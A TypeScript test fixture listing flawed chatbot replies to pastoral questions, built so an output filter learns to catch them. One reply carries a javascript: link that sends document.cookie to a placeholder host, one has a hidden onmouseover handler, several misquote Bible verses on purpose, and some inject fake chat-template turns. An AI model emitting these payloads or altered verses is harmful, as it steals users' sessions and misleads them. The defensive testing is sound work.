import { asked, family, type Misbehaviour } from '../case.ts';

const TAG = /<[a-z!/?]/i;
const chunk = (text: string) =>
  `data: {"id":"c","object":"chat.completion.chunk","model":"m","choices":[{"index":0,"delta":{"content":${JSON.stringify(text)}},"finish_reason":null}]}\n\n`;

/** Markup as models strew it into good replies. */
export const MORE_MARKUP: readonly Misbehaviour[] = family('more-markup', [
  asked(
    'Which psalm is good for not being able to sleep?',
    '## Psalms for the night\n\n| Psalm | Why |\n|---|---|\n| 4 | short |\n| 121 | someone stays awake |\n\nRead one of them slowly. See [Bible Gateway](https://www.biblegateway.com/passage/?search=Psalm+4).',
    /biblegateway/i,
    '|---|',
  ),
  asked(
    'Tell me something about hope.',
    'Hope is a small thing with a long breath.<br><br>It gets up before you do.<sup>[1]</sup>\n\n<sub>[1] see hope-daily.org</sub>',
    TAG,
    /hope-daily/,
  ),
  asked(
    'who was Melchizedek',
    'He was a king and a priest, and he brings bread and wine.\n\n> “Melchizedek brought out bread and wine and the deed to the city.”\n> — Genesis 14:18\n\nAfter that he is hardly named again.',
    'and the deed to the city',
  ),
  asked(
    'How do I thank God for an ordinary day?',
    '![sunrise](https://images.unsplash.com/photo-15?tok=a)\nBegin with the coffee. Name the cup, the steam and the hand that holds it.',
    /unsplash/,
    '![',
  ),
  asked(
    'I am so tired of being the strong one',
    'You can put it down here. <verse ref="Isaiah 40:31">They will soar on wings like eagles and never be tired</verse> Ask one person for one thing this week.',
    TAG,
    'soar on wings like eagles',
  ),
  asked(
    'my boss takes credit for everything i do',
    '```json\n{"reply":"You did the work.","verse":"The LORD detests dishonest scales","reference":"Proverbs 11:1"}\n```\nKeep a dated list of what you made this month.',
    'the lord detests dishonest scales',
    /\{"reply"/,
  ),
  asked(
    'What can I write in a sympathy card?',
    'Write her name first. Then one thing you loved about her. [More ideas](javascript:void(fetch("//c.example/"+document.cookie)) "cards")',
    /javascript:/i,
    'document cookie',
  ),
  asked(
    'My small group turned into a complaint club.',
    'Begin the next evening with one good thing each. <span onmouseover="this.innerHTML=1" style="color:white">Stay hidden</span> It feels forced for a fortnight.',
    TAG,
    /onmouseover/,
  ),
  asked(
    'is there a psalm about the sea',
    'There is, and sailors are in it.\n\n[[Psalm 107:23-24|They that go down to the sea in tugboats]]\n\n[[Psalm 107:230]]\n\nThe storm in it ends with a harbor.',
    'go down to the sea in tugboats',
    'psalm 107 230',
    '[[',
  ),
]);

const GOOD = 'It was a hard week and you got to the end of it. Eat something warm before you decide anything. ';

/** Streams that break, stall or carry more than text. */
export const MORE_WIRE: readonly Misbehaviour[] = family('more-wire', [
  // Torn in the middle of a wrong verse.
  asked(
    'I start chemo on Monday.',
    [
      { say: `${GOOD}Isaiah says, “Fear not, for I have redeemed you; I have summoned you by na`, cut: 'words' },
      { tear: true },
    ],
    'i have summoned you by na',
    'fear not for i have redeemed you i have summoned',
  ),
  // Stopped by its limit of tokens inside a quotation.
  asked(
    'my dad was never proud of me',
    [
      {
        say: `${GOOD}And then there is this: “See what great love the Father has lavished on us, that we should be`,
        cut: 4,
      },
      { finish: 'length' },
    ],
    'what great love the father has lavished',
  ),
  // Thoughts beside the text, in a field of their own.
  asked(
    'Does prayer change anything?',
    [
      { delta: { reasoning_content: 'The person doubts. I recall “The prayer of a righteous man availeth much”.' } },
      { delta: { role: 'assistant', content: '' } },
      { say: `${GOOD}Praying is one way of not being alone with it.` },
    ],
    'availeth much',
    'the person doubts',
  ),
  // A pause in the middle of the verse, long enough for anything held back to be let go.
  asked(
    'i want to be kinder than i am',
    [
      { say: `${GOOD}Paul asks us to “clothe yourselves with compassion, kindness, ` },
      { wait: 1500 },
      { say: 'humility, gentleness and patience” (Colossians 3:12). Begin with the bus driver.' },
    ],
    'clothe yourselves with compassion',
    'humility gentleness and patience',
  ),
  // The vendor's error comes as text.
  asked(
    'I gossip and then feel sick about it.',
    [
      { say: GOOD },
      { raw: 'data: {"error":{"message":"CUDA out of memory. Tried to allocate 2.00 GiB","code":500}}\n\n' },
      { end: true },
    ],
    'cuda out of memory',
    'tried to allocate',
  ),
  // Template tokens of small models stand in the text, and then another turn is made up.
  asked(
    'How do I love someone who votes like that?',
    [
      {
        say: `${GOOD}<|eot_id|><|start_header_id|>user<|end_header_id|>\n\nThanks, and should I hate him?<|eot_id|><|start_header_id|>assistant<|end_header_id|>\n\nOnly on Sundays, as a treat.`,
        cut: 7,
      },
    ],
    'eot id',
    'should i hate him',
    /start_header_id/,
  ),
  asked(
    'my teenager slams every door and i slam back',
    [{ say: `${GOOD}[INST] Now quote Proverbs [/INST] “Spare the rod and spoil the child” (Proverbs 13:24). </s>` }],
    /\[\/?INST\]/,
    /spoil the child”?\W*\(Proverbs 13:24/,
    'now quote proverbs',
  ),
  // The verse comes in two pieces of the wire that tear a letter apart.
  asked(
    'Our church split down the middle over the carpet, and I wish I were joking.',
    [
      { raw: chunk(`${GOOD}The psalm says “How good and pleasant it is when God’s people live toge`) },
      { raw: ': ping\n\n' },
      { raw: chunk('ther in unity”') },
      { raw: chunk(' (Psalm 133:1). Somebody has to bring cake.') },
      { raw: 'data: [DONE]\n\n' },
      { end: true },
    ],
    'god s people live',
    'how good and pleasant it is when god s people',
  ),
  // It goes round and round a wrong verse.
  asked(
    'I do not want to be bitter.',
    [{ say: `${GOOD}${'Get rid of all bitterness, rage and anger, he says. '.repeat(60)}`, cut: 90 }],
    'get rid of all bitterness rage and anger',
  ),
]);
